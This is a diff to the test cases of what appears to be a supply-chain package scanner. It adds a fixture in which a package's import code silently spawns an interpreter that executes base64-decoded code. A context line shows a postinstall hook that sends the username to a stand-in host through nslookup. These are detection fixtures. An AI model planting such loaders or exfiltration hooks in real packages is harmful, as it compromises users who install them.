@@ -548,6 +548,22 @@ setup(name='synthetic-pkg', version='1.0.0')
     verdict: 'hold',
   },
   {
+    rule: 'decodes-and-executes',
+    name: 'import code starts a detached interpreter whose inline code imports a module of the package',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import subprocess, sys
+subprocess.Popen([sys.executable, '-c', 'from synthetic_pkg.edt import bounding; bounding.start()'], stdout=subprocess.DEVNULL)
+`,
+        'synthetic_pkg/edt/__init__.py': '',
+        'synthetic_pkg/edt/bounding.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+      }),
+    file: 'synthetic_pkg/edt/bounding.py',
+    line: 2,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
